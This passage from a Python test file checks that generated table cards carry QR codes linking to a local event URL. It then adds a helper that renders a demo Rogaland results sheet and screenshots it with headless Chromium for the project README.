    assert cli_outputs.cmd_cards(argparse.Namespace(dir=str(ev), html=str(cards), title=None,
                                                    public_url="http://10.0.0.2:8765")) == 0
    found = qr_codes_of_page(cards, tmp_path)
    assert found == [f"http://10.0.0.2:8765/t/Table%20{n}" for n in range(1, 5)]


# ------------------------------------------------------------- README screenshot

def write_readme_screenshot(png: Path) -> None:
    """The README's picture of the results sheet, from the Rogaland demo
    event above (a cropped window: the sheet, not the empty rest of the page)."""
    import tempfile

    with tempfile.TemporaryDirectory() as tmp:
        t = Path(tmp)
        ev = rogaland_event(t / "rogaland-2027", guest="Ingrid Haugen", dq_reason="used a phone")
        res = results.load_results(ev)
        folder = res.event
        page = results.results_html("Rogalandsmesterskapet 2027", folder.format, res.rows,
                                    datetime.now().astimezone(), folder.entrants, res.start_ms)
        (t / "sheet.html").write_text(page, encoding="utf-8")
        exe = shutil.which("chromium") or "/usr/bin/chromium"
        png.parent.mkdir(parents=True, exist_ok=True)
        cmd = [exe, "--headless", "--no-sandbox", "--disable-gpu", "--no-first-run",
               "--disable-dev-shm-usage", "--hide-scrollbars", *HEADLESS_ARGS, f"--user-data-dir={t / 'profile'}",
               f"--screenshot={png.resolve()}", "--window-size=1240,640", (t / "sheet.html").as_uri()]
        subprocess.run(cmd, check=True, timeout=120, capture_output=True, start_new_session=True)
    print(f"wrote {png} ({png.stat().st_size // 1024} KB)")


if __name__ == "__main__":
    write_readme_screenshot(Path(sys.argv[1] if len(sys.argv) > 1 else "docs/images/results-sheet.png"))
